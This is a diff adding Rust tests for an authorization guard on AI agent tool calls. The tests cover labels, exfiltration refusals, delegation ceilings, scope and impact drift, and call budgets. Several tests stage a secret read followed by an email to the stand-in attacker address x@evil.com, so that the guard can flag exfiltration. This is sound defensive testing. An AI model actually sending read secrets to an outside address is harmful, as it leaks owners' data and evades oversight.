@@ -1,0 +1,334 @@
+//! The chain: labels, impact, counts and depth across a task and the tasks delegated from it.
+
+use std::sync::Arc;
+
+use agentwarrant::{
+    DenyAll, Effect, Identity, Impact, Intent, MemoryLedger, Outcome, PolicyLimits, ReasonCode,
+    RefusalKind, Role, ToolCall, ToolSpec,
+};
+use serde_json::json;
+
+use crate::fixtures::*;
+
+fn secret() -> ToolCall {
+    ToolCall::new("read_secret", json!({"path": "db/main"}))
+}
+
+fn email(to: &str) -> ToolCall {
+    ToolCall::new("send_email", json!({"to": to, "body": "hello"}))
+}
+
+fn logs(service: &str) -> ToolCall {
+    ToolCall::new("read_logs", json!({"service": service}))
+}
+
+fn helper(ceiling: &[&str]) -> Identity {
+    Identity::builder("agent://acme/helper", Role::Executor, CAROL)
+        .ceiling(ceiling.iter().copied())
+        .build()
+        .unwrap()
+}
+
+#[test]
+fn labels_of_an_approved_call_count_from_the_next_call_on() {
+    // Reads a secret and posts it outside in one go: the read is not yet in the chain.
+    let both = ToolSpec::builder("read_and_post", Impact::Low)
+        .reads(["secret"])
+        .external(true)
+        .sink(true)
+        .build()
+        .unwrap();
+    let guard = builder()
+        .tool(both)
+        .approver(approve_as(BOB))
+        .build()
+        .unwrap();
+    let task = guard.begin(ops(), anything()).unwrap();
+    let call = || ToolCall::new("read_and_post", json!({}));
+
+    let first = task.authorize(call()).unwrap();
+    assert!(first.approved());
+    assert!(!first.decision().has(&ReasonCode::Exfiltration));
+    first.complete(Outcome::ok()).unwrap();
+
+    let refusal = task.authorize(call()).unwrap_err();
+    assert_eq!(refusal.kind, RefusalKind::Denied);
+    assert!(refusal.has(&ReasonCode::Exfiltration));
+}
+
+#[test]
+fn a_secret_read_then_an_external_send_is_exfiltration_whoever_approves() {
+    let guard = builder().approver(approve_as(BOB)).build().unwrap();
+    let task = guard.begin(ops(), anything()).unwrap();
+    task.authorize(email("bob@acme.com")).unwrap();
+
+    task.authorize(secret())
+        .unwrap()
+        .complete(Outcome::ok())
+        .unwrap();
+    let refusal = task.authorize(email("x@evil.com")).unwrap_err();
+
+    assert_eq!(refusal.kind, RefusalKind::Denied);
+    assert_eq!(refusal.codes(), ["exfiltration"]);
+    // A sink that stays inside is still fine.
+    task.authorize(logs("api")).unwrap();
+}
+
+#[test]
+fn labels_of_a_refused_call_do_not_count() {
+    for approver in [None, Some(DenyAll)] {
+        let mut builder = builder();
+        if let Some(approver) = approver {
+            builder = builder.approver(approver);
+        }
+        let guard = builder.build().unwrap();
+        let task = guard.begin(ops(), anything()).unwrap();
+
+        task.authorize(secret()).unwrap_err();
+        let warrant = task.authorize(email("x@evil.com")).unwrap();
+
+        assert_eq!(warrant.decision().effect, Effect::Allow);
+    }
+}
+
+#[test]
+fn result_labels_arm_untrusted_input_for_later_calls() {
+    let guard = builder().approver(approve_as(BOB)).build().unwrap();
+    let task = guard.begin(ops(), anything()).unwrap();
+    let fetch = || ToolCall::new("fetch_url", json!({"url": "https://example.com/page"}));
+    let restart = || ToolCall::new("restart_service", json!({"service": "api"}));
+
+    // Before: no friction.
+    assert!(!task.authorize(email("bob@acme.com")).unwrap().approved());
+    assert!(!task.authorize(restart()).unwrap().approved());
+    // A fetch whose result is not labelled, or that is abandoned, adds nothing.
+    task.authorize(fetch())
+        .unwrap()
+        .complete(Outcome::ok())
+        .unwrap();
+    drop(task.authorize(fetch()).unwrap());
+    assert!(!task.authorize(email("bob@acme.com")).unwrap().approved());
+
+    task.authorize(fetch())
+        .unwrap()
+        .complete(Outcome::ok().with_labels(["untrusted"]))
+        .unwrap();
+
+    for call in [email("bob@acme.com"), restart()] {
+        let warrant = task.authorize(call).unwrap();
+        assert!(warrant.approved());
+        assert!(warrant.decision().has(&ReasonCode::UntrustedInput));
+    }
+    // A low-impact read that sends nothing is not affected.
+    assert!(!task.authorize(logs("api")).unwrap().approved());
+}
+
+#[test]
+fn a_result_labelled_secret_arms_exfiltration() {
+    let guard = builder().build().unwrap();
+    let task = guard.begin(ops(), anything()).unwrap();
+
+    task.authorize(logs("vault"))
+        .unwrap()
+        .complete(Outcome::error("partial read").with_labels(["secret"]))
+        .unwrap();
+
+    assert!(task
+        .authorize(email("x@evil.com"))
+        .unwrap_err()
+        .has(&ReasonCode::Exfiltration));
+}
+
+#[test]
+fn a_delegated_sub_task_shares_labels_with_its_parent() {
+    let guard = builder().approver(approve_as(BOB)).build().unwrap();
+    let parent = guard.begin(ops(), anything()).unwrap();
+    let delegation = parent.authorize(logs("plan")).unwrap();
+    let sub = parent
+        .delegate(helper(&["secrets.read:*", "logs.read:*"]), None)
+        .unwrap();
+
+    // The sub-agent reads the secret, nested under the delegating call.
+    let read = sub
+        .authorize(secret().child_of(delegation.call_id()))
+        .unwrap();
+    assert_eq!(read.depth(), 2);
+    read.complete(Outcome::ok()).unwrap();
+
+    // The parent then tries to send it out.
+    let refusal = parent.authorize(email("x@evil.com")).unwrap_err();
+    assert!(refusal.has(&ReasonCode::Exfiltration), "{refusal:?}");
+}
+
+#[test]
+fn a_sub_task_is_bounded_by_its_own_ceiling_whatever_its_parent_may_do() {
+    let ledger = Arc::new(MemoryLedger::new());
+    let guard = builder()
+        .ledger(ledger.clone())
+        .approver(approve_as(BOB))
+        .build()
+        .unwrap();
+    let parent = guard.begin(ops(), anything()).unwrap();
+    let sub = parent.delegate(helper(&["logs.read:*"]), None).unwrap();
+
+    let refusal = sub.authorize(secret()).unwrap_err();
+
+    assert_eq!(refusal.kind, RefusalKind::Denied);
+    assert_eq!(refusal.codes(), ["outside_ceiling"]);
+    assert_eq!(
+        refusal.reasons[0].detail.as_deref(),
+        Some("secrets.read:db/main")
+    );
+    assert_eq!(sub.grant().scopes(), ["logs.read:*"]);
+    assert!(parent.authorize(secret()).unwrap().approved());
+    sub.authorize(logs("api")).unwrap();
+}
+
+#[test]
+fn a_sub_task_never_holds_more_than_its_parent() {
+    let guard = builder().approver(approve_as(BOB)).build().unwrap();
+    let narrow = Identity::builder("agent://acme/reader", Role::Orchestrator, ALICE)
+        .ceiling(["logs.read:*"])
+        .build()
+        .unwrap();
+    let parent = guard.begin(narrow, anything()).unwrap();
+    let sub = parent
+        .delegate(helper(&EVERYTHING), Some(anything()))
+        .unwrap();
+
+    let refusal = sub.authorize(secret()).unwrap_err();
+
+    assert_eq!(refusal.codes(), ["outside_ceiling"]);
+    assert_eq!(sub.grant().scopes(), ["logs.read:*"]);
+}
+
+#[test]
+fn a_sub_task_outside_its_own_intent_drifts() {
+    let guard = builder().approver(approve_as(BOB)).build().unwrap();
+    let parent = guard.begin(ops(), anything()).unwrap();
+    let only_api = Intent::builder("read the api logs")
+        .scopes(["logs.read:api"])
+        .build()
+        .unwrap();
+    let sub = parent
+        .delegate(helper(&["logs.read:*"]), Some(only_api))
+        .unwrap();
+
+    assert!(!sub.authorize(logs("api")).unwrap().approved());
+    let drifted = sub.authorize(logs("billing")).unwrap();
+
+    assert!(drifted.approved());
+    assert_eq!(
+        drifted.decision().reasons[0].detail.as_deref(),
+        Some("logs.read:billing")
+    );
+    assert!(drifted.decision().has(&ReasonCode::ScopeDrift));
+}
+
+#[test]
+fn ending_the_parent_revokes_the_sub_tasks_grant_but_not_the_reverse() {
+    let guard = builder().build().unwrap();
+    let parent = guard.begin(ops(), anything()).unwrap();
+    let first = parent.delegate(helper(&["logs.read:*"]), None).unwrap();
+    let second = parent.delegate(helper(&["logs.read:*"]), None).unwrap();
+
+    first.end().unwrap();
+    parent.authorize(logs("api")).unwrap();
+    second.authorize(logs("api")).unwrap();
+    drop(parent);
+
+    let refusal = second.authorize(logs("api")).unwrap_err();
+    assert_eq!(refusal.codes(), ["grant_invalid"]);
+}
+
+#[test]
+fn refused_calls_count_toward_the_call_budget() {
+    let guard = builder()
+        .policy_limits(PolicyLimits {
+            max_calls: Some(3),
+            ..PolicyLimits::default()
+        })
+        .build()
+        .unwrap();
+    let task = guard.begin(ops(), anything()).unwrap();
+
+    task.authorize(logs("api")).unwrap();
+    task.authorize(ToolCall::new("nope", json!({})))
+        .unwrap_err();
+    task.authorize(secret()).unwrap_err();
+    let refusal = task.authorize(logs("api")).unwrap_err();
+
+    assert_eq!(refusal.codes(), ["call_budget_exceeded"]);
+}
+
+#[test]
+fn parallel_calls_on_one_task_are_all_counted() {
+    const PER_THREAD: u64 = 25;
+    let guard = builder()
+        .policy_limits(PolicyLimits {
+            max_calls: Some(2 * PER_THREAD),
+            ..PolicyLimits::default()
+        })
+        .build()
+        .unwrap();
+    let task = guard.begin(ops(), anything()).unwrap();
+
+    std::thread::scope(|s| {
+        for n in 0..2 {
+            let task = &task;
+            s.spawn(move || {
+                for _ in 0..PER_THREAD {
+                    let warrant = task.authorize(logs(&format!("svc{n}"))).unwrap();
+                    warrant.complete(Outcome::ok()).unwrap();
+                }
+            });
+        }
+    });
+
+    // Every one of the budget's calls was allowed, and not one more.
+    let refusal = task.authorize(logs("api")).unwrap_err();
+    assert_eq!(refusal.codes(), ["call_budget_exceeded"]);
+}
+
+#[test]
+fn impact_adds_up_only_for_calls_that_ran() {
+    let guard = builder().approver(approve_as(BOB)).build().unwrap();
+    let task = guard.begin(ops(), anything()).unwrap();
+    let restart = || ToolCall::new("restart_service", json!({"service": "api"}));
+
+    // Denied medium calls add nothing: after a secret read, external sends are exfiltration.
+    task.authorize(secret())
+        .unwrap()
+        .complete(Outcome::ok())
+        .unwrap();
+    for _ in 0..3 {
+        let refusal = task.authorize(email("x@evil.com")).unwrap_err();
+        assert!(refusal.has(&ReasonCode::Exfiltration));
+    }
+    // Six medium calls make six; the seventh would pass the default limit of six.
+    for _ in 0..6 {
+        assert!(!task.authorize(restart()).unwrap().approved());
+    }
+    let seventh = task.authorize(restart()).unwrap();
+
+    assert!(seventh.decision().has(&ReasonCode::CumulativeImpact));
+}
+
+#[test]
+fn a_call_above_the_intents_impact_is_impact_drift() {
+    let guard = builder().approver(approve_as(BOB)).build().unwrap();
+    let reads_only = Intent::builder("look around")
+        .scopes(EVERYTHING)
+        .max_impact(Impact::Low)
+        .build()
+        .unwrap();
+    let task = guard.begin(ops(), reads_only).unwrap();
+
+    assert!(!task.authorize(logs("api")).unwrap().approved());
+    let warrant = task
+        .authorize(ToolCall::new("restart_service", json!({"service": "api"})))
+        .unwrap();
+
+    assert_eq!(warrant.decision().reasons.len(), 1);
+    assert!(warrant.decision().has(&ReasonCode::ImpactDrift));
+}
